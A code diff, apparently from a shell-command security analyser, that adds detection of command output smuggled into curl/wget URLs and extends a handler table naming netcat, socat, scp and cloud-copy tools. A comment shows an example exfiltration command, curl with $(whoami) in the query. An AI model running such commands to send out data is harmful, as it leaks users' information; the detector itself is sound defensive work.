@@ -103,11 +103,32 @@ static void downloads_into(sh_ctx *c, size_t idx, const sh_walk *wk, int wget)
     }
 }
 
+/* Another command's output in a URL's path or query is sent to the host
+ * (curl "https://x/api?u=$(whoami)"); in the host it is a lookup (DNS
+ * exfiltration, facts.c). */
+static int sends_output(pe_str u, unsigned flags)
+{
+    if (!(flags & PE_SHELL_W_CMDSUB))
+        return 0;
+    const char *scheme = u.len > 3 ? strstr(u.s, "://") : NULL;
+    size_t i = scheme ? (size_t)(scheme - u.s) + 3 : 0;
+    while (i < u.len && u.s[i] != '/' && u.s[i] != '?' && u.s[i] != '#')
+        i += u.s[i] == '$' && i + 1 < u.len && u.s[i + 1] == '(' ? 1 : 1;
+    for (; i < u.len; i++)
+        if (u.s[i] == '`' || (u.s[i] == '$' && i + 1 < u.len && u.s[i + 1] == '('))
+            return 1;
+    return 0;
+}
+
 static int web(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
 {
-    for (size_t i = 0; i < wk->nops; i++)
-        sh_net_word(c, c->cmds[idx].scope, word(c, idx, wk->ops[i]), wflags(c, idx, wk->ops[i]),
-                    PE_URL_WEB);
+    for (size_t i = 0; i < wk->nops; i++) {
+        pe_str u = word(c, idx, wk->ops[i]);
+        unsigned f = wflags(c, idx, wk->ops[i]);
+        sh_net_word(c, c->cmds[idx].scope, u, f, PE_URL_WEB);
+        if (sends_output(u, f))
+            c->flags |= PE_SHELL_UPLOAD;
+    }
     downloads_into(c, idx, wk, strcmp(k->name, "wget") == 0);
     return 1;
 }
@@ -733,12 +754,32 @@ static const struct {
     const char *name;
     special_fn fn;
 } handlers[] = {
-    {"aws", cloud_copy},    {"azcopy", cloud_copy}, {"gh", gh},           {"gsutil", cloud_copy},
-    {"rclone", cloud_copy}, {"crontab", crontab},   {"curl", web},        {"find", find},
-    {"git", git},           {"gpg", gpg},           {"gpg2", gpg},        {"http", httpie},
-    {"https", httpie},      {"xh", httpie},         {"nc", netcat},       {"ncat", netcat},
-    {"netcat", netcat},     {"rsync", copy_remote}, {"scp", copy_remote}, {"security", security},
-    {"socat", socat},       {"ssh", ssh},           {"tar", tar},         {"wget", web},
+    {"aws", cloud_copy},
+    {"azcopy", cloud_copy},
+    {"gh", gh},
+    {"gsutil", cloud_copy},
+    {"rclone", cloud_copy},
+    {"crontab", crontab},
+    {"curl", web},
+    {"find", find},
+    {"git", git},
+    {"gpg", gpg},
+    {"gpg2", gpg},
+    {"http", httpie},
+    {"https", httpie},
+    {"xh", httpie},
+    {"nc", netcat},
+    {"ncat", netcat},
+    {"netcat", netcat},
+    {"nc.openbsd", netcat},
+    {"nc.traditional", netcat},
+    {"rsync", copy_remote},
+    {"scp", copy_remote},
+    {"security", security},
+    {"socat", socat},
+    {"ssh", ssh},
+    {"tar", tar},
+    {"wget", web},
 };
 
 int sh_special(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
